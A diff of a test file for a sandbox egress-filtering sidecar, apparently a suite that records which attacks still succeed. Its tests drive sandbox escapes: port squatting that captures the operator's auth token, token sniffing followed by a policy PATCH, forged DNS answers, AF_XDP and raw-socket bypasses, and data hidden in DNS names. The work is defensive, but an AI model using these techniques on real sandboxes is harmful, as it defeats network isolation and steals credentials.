@@ -2,16 +2,30 @@
  * What a hostile workload can still do: each test shows that the attack works today. When one fails the gap is closed; then it moves to the
  * file of its row, turned round, and out of the table "Open" of SECURITY.md.
  */
+import { writeFile } from "node:fs/promises";
+import { join } from "node:path";
 import { afterEach, beforeEach, expect, test } from "vitest";
 import { z } from "zod";
-import { writeSysctl } from "../../src/netns/namespace.ts";
+import { execIn } from "../../src/netns/namespace.ts";
 import { FAMILIES } from "../support/families.ts";
 import { readAddresses } from "../support/kernel-sets.ts";
 import { startJsonServer } from "../support/json-server.ts";
-import { createLab, type Lab } from "../support/lab.ts";
+import { createLab, INTERNET_V6, type Lab, SANDBOX_V6 } from "../support/lab.ts";
+import { skipBecause } from "../support/skip.ts";
 import { until } from "../support/until.ts";
-import { attack, attackArgv, deniedAddress, leaksOf, macOf, POLICY, startAttack } from "./attack.ts";
+import {
+  attack,
+  attackArgv,
+  deniedAddress,
+  leaksOf,
+  macOf,
+  POLICY,
+  questionsOf,
+  startAccomplice,
+  startAttack,
+} from "./attack.ts";
 
+const HOSTILE = { IPv4: "203.0.113.54", IPv6: "2001:db8:100:54::54" } as const;
 const FORGED = "203.0.113.66";
 
 let lab: Lab;
@@ -34,37 +48,69 @@ test.each(FAMILIES)("known gap: row 21: an AF_XDP socket sends past every hook, 
   await lab.startSidecar({ policy: POLICY });
   const destination = deniedAddress(family, 21);
   const gateway = await macOf(lab.internet);
-  const leaks = await leaksOf(lab, async () => {
-    console.log(await attack(lab, "xdp", "eth0", gateway, family.sandbox, destination));
-  });
+  const leaks = await leaksOf(lab, () => attack(lab, "xdp", "eth0", gateway, family.sandbox, destination));
   expect(leaks).toMatchObject([{ destination, destinationPort: 21 }]);
 });
 
-test("known gap: row 11: a workload that holds the resolver's ports keeps the sidecar from starting", async () => {
-  await using _ = await startAttack(lab, "squat", "hold", "15353");
-  const sidecar = await lab.startSidecar({ policy: POLICY, awaitHealth: false });
-  console.log(
-    await Promise.race([sidecar.exit, until("x", () => false, 8000).catch(() => "still runs")]),
-    sidecar.output(),
-  );
-});
+test.each(["15353", "18080"])(
+  "known gap: row 11: who holds port %s first keeps the sidecar from starting",
+  async (port) => {
+    await using squatter = await startAttack(lab, "squat", "hold", port);
+    const sidecar = await lab.startSidecar({ policy: POLICY, awaitHealth: false });
+    expect(await sidecar.exit).toMatchObject({ exitCode: 78 });
+    if (port !== "18080") return;
+    // And is told the operator's token.
+    await lab.curlFromOutside(
+      "-H",
+      `OPENSANDBOX-EGRESS-AUTH: ${sidecar.token}`,
+      "http://192.0.2.2:18080/policy",
+    );
+    expect(JSON.stringify(squatter.lines)).toContain(sidecar.token);
+  },
+);
 
-test("known gap: row 11: a workload that holds the API's port", async () => {
-  await using squatter = await startAttack(lab, "squat", "hold", "18080");
-  const sidecar = await lab.startSidecar({ policy: POLICY, awaitHealth: false });
-  console.log(
-    await Promise.race([sidecar.exit, until("x", () => false, 4000).catch(() => "still runs")]),
-    sidecar.output(),
-  );
-  await lab.curlFromOutside(
-    "-H",
-    `OPENSANDBOX-EGRESS-AUTH: ${sidecar.token}`,
-    "http://192.0.2.2:18080/policy",
-  );
-  console.log(squatter.lines);
+test.each(FAMILIES)(
+  "known gap: row 20: a caller forged before the first start is still answered, $name",
+  async (family) => {
+    if (family.name === "IPv6" && !lab.ipv6) return;
+    // As in a container whose machine has rules of its own in it: flows are tracked before the sidecar is there.
+    const tracked =
+      "table inet machine { chain output { type filter hook output priority 0; ct state new counter; }; }";
+    await execIn(lab.sandbox, ["nft", "-f", "-"], { input: tracked });
+    const denied = deniedAddress(family, 28);
+    await attack(lab, "callers", "forge", denied, family.sandbox, await macOf(lab.sandbox));
+    await lab.startSidecar({ policy: POLICY });
+    const leaks = await leaksOf(lab, async () => {
+      console.log(await attack(lab, "callers", "revive", denied, family.sandbox));
+    });
+    expect(new Set(leaks.map(({ destination }) => destination))).toEqual(new Set([denied]));
+  },
+);
+
+test.each(FAMILIES)(
+  "known gap: row 25: an allowed name may give the gateway's address, $name",
+  async (family) => {
+    if (family.name === "IPv6" && !lab.ipv6) return;
+    await startAccomplice(lab, "hostile_upstream", ...FAMILIES.map(({ name }) => HOSTILE[name]));
+    const upstream = family.name === "IPv4" ? HOSTILE.IPv4 : `[${HOSTILE.IPv6}]:53`;
+    await lab.startSidecar({ policy: POLICY, env: { OPENSANDBOX_EGRESS_DNS_UPSTREAM: upstream } });
+    const octets = family.name === "IPv4" ? "c0000201" : "20010db8000000000000000000000001";
+    await lab.dig("-t", family.qtype, `give-${octets}.wild.example.org`);
+    expect(await attack(lab, "everyday", "ports", family.upstream, "8080")).toMatchObject({
+      "tcp 8080": "connected",
+    });
+  },
+);
+
+test("known gap: row 23: neighbours on the link read what neighbour discovery carries", async (context) => {
+  if (!lab.ipv6) skipBecause(context, "this machine has no IPv6");
+  await lab.startSidecar({ policy: POLICY });
+  const leaks = await leaksOf(lab, () => attack(lab, "raw_ip", "link", SANDBOX_V6, INTERNET_V6));
+  expect(new Set(leaks.map(({ destination }) => destination))).toEqual(new Set(["ff02::1", INTERNET_V6]));
 });
 
 test("known gap: row 22: without signed writes a token read off the wire changes the policy", async () => {
+  await writeFile(join(lab.stateFolder, "rules", "deny.always"), "203.0.113.99\n");
   const sidecar = await lab.startSidecar({ policy: POLICY });
   await using sniffer = await startAttack(lab, "sniff", "eth0", "OPENSANDBOX-EGRESS-AUTH");
   await lab.curlFromOutside(
@@ -75,24 +121,28 @@ test("known gap: row 22: without signed writes a token read off the wire changes
   const seen = await until("the token is seen", () => sniffer.lines.find(({ event }) => event === "seen"));
   const { value } = z.object({ value: z.string() }).parse(seen);
   const body = JSON.stringify([{ action: "allow", target: "203.0.113.0/24" }]);
-  const call = [
-    "-X",
-    "PATCH",
-    "-H",
-    `OPENSANDBOX-EGRESS-AUTH: ${value}`,
-    "-d",
-    body,
-    "http://127.0.0.1:18080/policy",
-  ];
-  expect(await lab.curl(...call)).toMatchObject({ status: 200 });
+  const call = ["-X", "PATCH", "-H", `OPENSANDBOX-EGRESS-AUTH: ${value}`, "-d", body];
+  expect(await lab.curl(...call, "http://127.0.0.1:18080/policy")).toMatchObject({ status: 200 });
+  expect(await attack(lab, "everyday", "ports", "203.0.113.98", "80")).toMatchObject({
+    "tcp 80": "connected",
+  });
+  // Never past the operator's own denials.
+  expect(await leaksOf(lab, () => attack(lab, "everyday", "reach", "203.0.113.99"))).toEqual([]);
 });
 
 test("known gap: row 24: answers of a resolver on loopback can be forged by raw sockets", async () => {
-  await writeSysctl(lab.sandbox, "net.ipv4.conf.all.rp_filter", "0");
   const argv = attackArgv("loopback_resolver", ["127.0.0.11", "53", "198.51.100.20", "200"]);
   await using _ = await startJsonServer(lab.sandbox, argv);
   await lab.startSidecar({ policy: POLICY, env: { OPENSANDBOX_EGRESS_DNS_UPSTREAM: "127.0.0.11" } });
   await using forger = await startAttack(lab, "forge_answers", "lo", FORGED, "2001:db8:100:ee::66");
-  const answer = await lab.dig("forged.wild.example.org");
-  console.log(answer.addresses, await readAddresses(lab.sandbox, "dyn_allow_v4"), forger.lines);
+  expect(forger.lines[0]).toMatchObject({ event: "ready" });
+  expect(await lab.dig("forged.wild.example.org")).toMatchObject({ addresses: [FORGED] });
+  expect(await readAddresses(lab.sandbox, "dyn_allow_v4")).toContain(FORGED);
+});
+
+test("known gap: data hidden in names below an allowed wildcard reaches its owner", async () => {
+  await lab.startSidecar({ policy: POLICY });
+  const names = Array.from({ length: 200 }, (_, n) => `${n}-${"a".repeat(50)}.wild.example.org`);
+  const asked = await questionsOf(lab, () => lab.dig(...names.flatMap((name) => [name, "A"])));
+  expect(asked).toEqual(expect.arrayContaining(names));
 });
